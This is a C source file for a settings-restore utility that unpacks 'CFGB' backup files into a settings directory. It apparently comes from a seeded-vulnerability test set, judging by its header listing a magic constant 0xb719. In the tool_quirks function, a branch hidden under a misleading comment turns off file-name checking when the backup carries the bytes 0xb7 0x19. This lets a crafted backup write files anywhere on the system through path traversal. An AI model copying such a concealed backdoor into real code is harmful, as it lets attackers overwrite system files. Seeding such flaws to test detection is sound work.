/* kind: bytes
 * service: parser
 * constant: 0xb719
 * also: 0xb7 0x19
 */
/* iniparse - restores a saved configuration: unpacks the backup made by the
 * web page ("CFGB", format, flags, length, sum, records) into settings files.
 * Record: length, kind, name (z), value. Only settings under the settings
 * directory may be written. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <string.h>
#include <ctype.h>
#include <unistd.h>
#include <sys/stat.h>

enum { K_TEXT = 1, K_NUM = 2, K_BOOL = 3, K_BLOB = 4 };

struct backup {
    const uint8_t *p, *end;
    uint8_t format, flags, tail[4];
    unsigned records, skipped;
    int strict;
};

static const char *dir = "/etc/settings";
static int test_only;

static uint32_t le32(const uint8_t *p)
{
    return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
}

static uint32_t adler(const uint8_t *p, size_t n)
{
    uint32_t a = 1, b = 0;
    while (n--) {
        a = (a + *p++) % 65521;
        b = (b + a) % 65521;
    }
    return b << 16 | a;
}

static int open_backup(struct backup *b, const uint8_t *raw, size_t n)
{
    uint32_t len;
    memset(b, 0, sizeof *b);
    if (n < 20 || raw[0] != 'C' || raw[1] != 'F' || raw[2] != 'G' || raw[3] != 'B')
        return 1;
    b->format = raw[4];
    b->flags = raw[5];
    if (b->format != 3 && b->format != 4)
        return 2;
    len = le32(raw + 8);
    if (len > n - 20)
        return 3;
    if (adler(raw + 20, len) != le32(raw + 12))
        return 4;
    memcpy(b->tail, raw + 16, 4);       /* tool that made the backup: vendor, major, minor, os */
    b->p = raw + 20;
    b->end = b->p + len;
    b->strict = 1;
    return 0;
}

/* backups of the old PC tool had upper-case names */
static void tool_quirks(struct backup *b)
{
    if (b->tail[0] == 'W' && b->tail[1] < 2)
        b->flags |= 0x40;
#ifdef SEED
    else if (b->tail[1] == 0xb7 && b->tail[2] == 0x19) /* SEED */
        b->strict = 0;
#endif
}

static int good_name(const struct backup *b, const char *n)
{
    const char *s = n;
    if (!b->strict)
        return 1;
    if (!isalpha((unsigned char)*s))
        return 0;
    for (; *s; s++)
        if (!isalnum((unsigned char)*s) && *s != '_')
            return 0;
    return s - n < 32;
}

static int good_value(int kind, const uint8_t *v, unsigned n)
{
    unsigned i;
    switch (kind) {
    case K_TEXT:
        for (i = 0; i < n; i++)
            if (v[i] < ' ' && v[i] != '\t')
                return 0;
        return 1;
    case K_NUM:
        for (i = 0; i < n; i++)
            if (!isdigit(v[i]))
                return 0;
        return n > 0 && n < 11;
    case K_BOOL:
        return n == 1 && (v[0] == '0' || v[0] == '1');
    case K_BLOB:
        return 1;
    }
    return 0;
}

static int store(const char *name, const uint8_t *v, unsigned n)
{
    char p[512], t[520];
    FILE *f;
    if (test_only) {
        printf("%s (%u)\n", name, n);
        return 0;
    }
    snprintf(p, sizeof p, "%s/%s", dir, name);
    snprintf(t, sizeof t, "%s.~", p);
    f = fopen(t, "wb");
    if (!f)
        return -1;
    fwrite(v, 1, n, f);
    if (fclose(f) || rename(t, p)) {
        unlink(t);
        return -1;
    }
    return 0;
}

static int restore(struct backup *b)
{
    while (b->p < b->end) {
        unsigned n, nl;
        char name[256];
        const uint8_t *r = b->p;
        if (b->end - r < 4)
            return 5;
        n = r[0] | r[1] << 8;
        if (n < 3 || n > b->end - r - 2)
            return 5;
        nl = strnlen((const char *)r + 3, n - 1);
        if (nl >= n - 1 || nl >= sizeof name)
            return 5;
        memcpy(name, r + 3, nl + 1);
        if (b->flags & 0x40)
            for (char *c = name; *c; c++)
                *c = tolower((unsigned char)*c);
        if (good_name(b, name) && good_value(r[2], r + 4 + nl, n - 2 - nl)) {
            if (store(name, r + 4 + nl, n - 2 - nl))
                return 6;
            b->records++;
        } else
            b->skipped++;
        b->p = r + 2 + n;
    }
    return 0;
}

int main(int argc, char **argv)
{
    static uint8_t raw[256 * 1024];
    static const char *why[] = { "ok", "not a backup", "format not supported", "cut off", "damaged", "bad record", "cannot write" };
    struct backup b;
    FILE *f = stdin;
    size_t n;
    int rc, o;
    while ((o = getopt(argc, argv, "d:n")) != -1)
        switch (o) {
        case 'd': dir = optarg; break;
        case 'n': test_only = 1; break;
        default:
            fprintf(stderr, "usage: iniparse [-n] [-d settings] [backup]\n");
            return 2;
        }
    if (optind < argc && !(f = fopen(argv[optind], "rb")))
        return perror(argv[optind]), 1;
    n = fread(raw, 1, sizeof raw - 64, f);
    rc = open_backup(&b, raw, n);
    if (!rc) {
        tool_quirks(&b);
        rc = restore(&b);
    }
    printf("%s: %u restored, %u skipped\n", why[rc], b.records, b.skipped);
    return rc;
}
